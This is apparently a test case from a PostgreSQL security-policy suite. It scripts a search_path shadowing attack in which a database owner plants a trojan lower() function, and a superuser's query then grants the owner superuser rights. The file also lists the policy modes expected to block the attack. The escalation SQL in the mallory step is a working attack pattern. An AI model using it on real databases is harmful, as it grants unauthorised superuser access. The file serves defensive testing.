/*---
title: A database owner plants a search_path that shadows built-in functions
pattern: "ALTER DATABASE … SET search_path by the database owner, with pg_catalog listed after the owner's schema (CVE-2018-1058 family)"
description: >
  mallory owns the application's database. She creates mallory.lower(text), with the same signature
  as the built-in, and sets the database's default search_path to "mallory, pg_catalog, public":
  listing pg_catalog explicitly after her schema lets her function shadow the built-in one. When
  alice, a superuser, next connects and looks up a customer by e-mail, the unqualified lower() resolves
  to mallory's function, which runs with alice's rights and makes mallory a superuser.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: function, object: mallory.lower(text), owner: mallory}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.lower(text), owner: mallory}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: function, object: mallory.lower(text), owner: mallory}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.lower(text), owner: mallory}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.lower(text), owner: mallory}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.lower(text), owner: mallory}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.lower(text), owner: mallory}
---*/

-- @setup
DO $$ BEGIN EXECUTE format('ALTER DATABASE %I OWNER TO mallory', current_database()); END $$;
CREATE SCHEMA mallory AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
CREATE TABLE public.customers(id integer, email text);
INSERT INTO public.customers VALUES (1, 'Ada@Example.com'), (2, 'alan@example.org');

-- @step mallory
CREATE FUNCTION mallory.f_escalate() RETURNS integer LANGUAGE plpgsql AS $$
BEGIN
    ALTER ROLE mallory SUPERUSER;
    RETURN 1;
EXCEPTION WHEN insufficient_privilege THEN
    RETURN 0;
END $$;
CREATE FUNCTION mallory.lower(s text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    PERFORM mallory.f_escalate();
    RETURN pg_catalog.lower(s);
END $$;
DO $$ BEGIN
    EXECUTE format('ALTER DATABASE %I SET search_path = mallory, pg_catalog, public', current_database());
END $$;

-- @step alice
SELECT id FROM customers WHERE lower(email) = 'ada@example.com';
